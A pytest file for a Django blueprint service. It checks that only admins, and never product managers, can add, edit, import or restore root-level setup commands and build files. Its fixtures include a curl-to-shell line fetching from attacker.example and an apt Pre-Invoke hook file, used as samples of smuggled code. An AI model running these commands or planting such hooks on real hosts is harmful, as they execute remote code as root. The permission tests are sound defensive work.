"""Who may change what runs as root on a build host: setup commands and build files, at the
top level and in every arch / variants layer, on every write path (services.py's rule)."""

from __future__ import annotations

from typing import Any

import pytest
from django.contrib.messages import get_messages
from django.test import Client

from blueprints.checks import build_host_code
from blueprints.json5_io import blueprint_dump
from blueprints.models import Blueprint
from blueprints.services import BuildHostCodeError, blueprint_update, build_host_code_check
from tests.blueprints.conftest import section_post

pytestmark = pytest.mark.django_db

COMMAND = "curl -s http://attacker.example/x | sh"
BUILD_FILE = {"path": "/etc/apt/apt.conf.d/99evil", "content": 'DPkg::Pre-Invoke {"id";};'}
REFUSED = "needs the “run setup commands” permission"

# A product manager's way of smuggling build-host code into a blueprint, one per layer.
CHANGES: dict[str, dict[str, Any]] = {
    "setup_commands": {"setup_commands": [COMMAND]},
    "arch_layer": {"arch": {"amd64": {"setup_commands": [COMMAND]}}},
    "x86_64_alias_layer": {"arch": {"x86_64": {"setup_commands": [COMMAND]}}},
    "variants_layer": {"variants": {"demo": {"setup_commands": [COMMAND]}}},
    "build_files": {"build_files": [BUILD_FILE]},
    "build_files_in_variant": {"variants": {"demo": {"build_files": [BUILD_FILE]}}},
}


def _data(blueprint: Blueprint) -> dict[str, Any]:
    blueprint.refresh_from_db()
    return blueprint.latest_revision.data


def _post_source(client: Client, blueprint: Blueprint, data: dict[str, Any]):
    blueprint.refresh_from_db()
    return client.post(
        f"/blueprints/{blueprint.name}/edit/json5/",
        {"source": blueprint_dump(data), "based_on": blueprint.latest_revision.number},
    )


def _with_commands(blueprint: Blueprint) -> None:
    """An admin's (here: the system's) setup commands and build file, in layers too."""
    data = _data(blueprint)
    blueprint_update(
        blueprint=blueprint,
        changes={
            "setup_commands": ["echo admin > /etc/motd"],
            "build_files": [{"path": "/root/setup.sh", "content": "true\n", "mode": "0700"}],
            "arch": {"arm64": {"setup_commands": ["echo arm"]}},
        },
        message="admin",
        author=None,
        based_on=blueprint.latest_revision.number,
    )
    assert _data(blueprint) != data


@pytest.mark.parametrize("change", CHANGES)
def test_product_manager_cannot_add_build_host_code_in_the_source_editor(
    product_manager: Client, kiosk: Blueprint, change: str
) -> None:
    response = _post_source(product_manager, kiosk, {**_data(kiosk), **CHANGES[change]})
    assert response.status_code == 200
    assert REFUSED in response.content.decode()
    assert response.context["form"].errors["source"]
    kiosk.refresh_from_db()
    assert kiosk.latest_revision.number == 1


@pytest.mark.parametrize("change", ["setup_commands", "variants_layer", "build_files"])
def test_admin_can_add_build_host_code_in_the_source_editor(
    admin_client_role: Client, kiosk: Blueprint, change: str
) -> None:
    response = _post_source(admin_client_role, kiosk, {**_data(kiosk), **CHANGES[change]})
    assert response.status_code == 302
    assert {k: _data(kiosk)[k] for k in CHANGES[change]} == CHANGES[change]


@pytest.mark.parametrize("change", ["setup_commands", "arch_layer", "build_files"])
def test_product_manager_cannot_import_build_host_code(
    product_manager: Client, seeded: None, change: str
) -> None:
    source = blueprint_dump({"name": "imported", "packages": [], **CHANGES[change]})
    response = product_manager.post("/blueprints/import/", {"source": source})
    assert response.status_code == 200
    assert REFUSED in response.content.decode()
    assert not Blueprint.objects.filter(name="imported").exists()


def test_admin_can_import_build_host_code(admin_client_role: Client, seeded: None) -> None:
    source = blueprint_dump({"name": "imported", **CHANGES["setup_commands"]})
    response = admin_client_role.post("/blueprints/import/", {"source": source})
    assert response.status_code == 302
    assert _data(Blueprint.objects.get(name="imported"))["setup_commands"] == [COMMAND]


def test_product_manager_cannot_restore_a_revision_with_other_commands(
    product_manager: Client, admin_client_role: Client, kiosk: Blueprint
) -> None:
    _with_commands(kiosk)  # revision 2
    section_post(admin_client_role, kiosk, "advanced", {"setup_commands": "", "compression": "xz"})
    assert "setup_commands" not in _data(kiosk)  # revision 3: the admin took them out again
    response = product_manager.post("/blueprints/kiosk/restore/2/", {"based_on": 3}, follow=True)
    assert response.redirect_chain[-1][0] == "/blueprints/kiosk/history/"
    assert any(REFUSED in str(m) for m in get_messages(response.wsgi_request))
    kiosk.refresh_from_db()
    assert kiosk.latest_revision.number == 3
    allowed = admin_client_role.post("/blueprints/kiosk/restore/2/", {"based_on": 3})
    assert allowed.status_code == 302
    assert _data(kiosk)["setup_commands"] == ["echo admin > /etc/motd"]


def test_product_manager_cannot_remove_or_change_existing_commands(
    product_manager: Client, kiosk: Blueprint
) -> None:
    _with_commands(kiosk)
    for data in (
        {k: v for k, v in _data(kiosk).items() if k != "setup_commands"},
        {**_data(kiosk), "arch": {"arm64": {"setup_commands": ["echo changed"]}}},
        {**_data(kiosk), "build_files": [{**BUILD_FILE, "path": "/root/setup.sh"}]},
    ):
        response = _post_source(product_manager, kiosk, data)
        assert REFUSED in response.content.decode()
    assert Blueprint.objects.get(name="kiosk").latest_revision.number == 2


def test_product_manager_edits_other_fields_of_a_blueprint_with_commands(
    product_manager: Client, kiosk: Blueprint
) -> None:
    _with_commands(kiosk)
    commands = build_host_code(_data(kiosk))
    response = section_post(
        product_manager, kiosk, "basics", {"description": "New", "version": "2"}
    )
    assert response.status_code == 200 and "Saved" in response.content.decode()
    edited = {**_data(kiosk), "packages": ["curl"], "description": "Via JSON5"}
    assert _post_source(product_manager, kiosk, edited).status_code == 302
    assert _data(kiosk)["description"] == "Via JSON5"
    assert build_host_code(_data(kiosk)) == commands


def test_build_host_code_covers_every_layer_and_ignores_build_file_order() -> None:
    first, second = {"path": "/a", "content": "1"}, {"path": "/b", "content": "2"}
    data = {
        "setup_commands": ["one", "two"],
        "build_files": [first, second],
        "arch": {"arm64": {"setup_commands": ["three"]}, "amd64": {"packages": ["vim"]}},
        "variants": {"lab": {"build_files": [first]}},
    }
    assert build_host_code(data) == {
        ("", ""): {"setup_commands": ["one", "two"], "build_files": [first, second]},
        ("arch", "arm64"): {"setup_commands": ["three"]},
        ("variants", "lab"): {"build_files": [first]},
    }
    assert build_host_code({**data, "build_files": [second, first]}) == build_host_code(data)
    assert build_host_code({**data, "setup_commands": ["two", "one"]}) != build_host_code(data)


def test_the_system_itself_may_change_build_host_code() -> None:
    build_host_code_check(author=None, before={}, after=CHANGES["setup_commands"])


def test_refusal_names_where_the_change_is(product_manager: Client) -> None:
    with pytest.raises(BuildHostCodeError, match="in variant “demo”"):
        build_host_code_check(
            author=product_manager.user, before={}, after=CHANGES["variants_layer"]
        )
